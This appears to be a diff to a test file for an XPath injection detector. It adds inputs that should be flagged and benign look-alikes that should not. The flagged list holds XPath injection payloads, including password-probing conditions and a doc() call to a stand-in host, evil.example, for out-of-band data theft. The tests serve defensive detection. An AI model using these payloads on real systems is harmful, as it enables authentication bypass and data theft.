@@ -14,6 +14,9 @@ const LOUD: Row[] = [
   ["x' and contains(password,'a') and 'x'='x", {}],
   ["'] | //*", {}],
   ["x' or ancestor::node() or 'a'='b", {}],
+  ['count(/child::node())', {}],
+  ["') or contains(.,'a", {}],
+  ["' and doc('http://evil.example/x') and '1'='1", {}],
 ];
 
 const QUIET: Row[] = [
@@ -27,6 +30,9 @@ const QUIET: Row[] = [
   ["don't contains allergens", {}],
   ['price (net) or count', {}],
   ["'quoted' / unquoted", {}],
+  ['count(//li) > 3', {}],
+  ["//a[contains(@href,'x')]", {}],
+  ['count(items)', {}],
 ];
 
 describe('injection-xpath', () => {
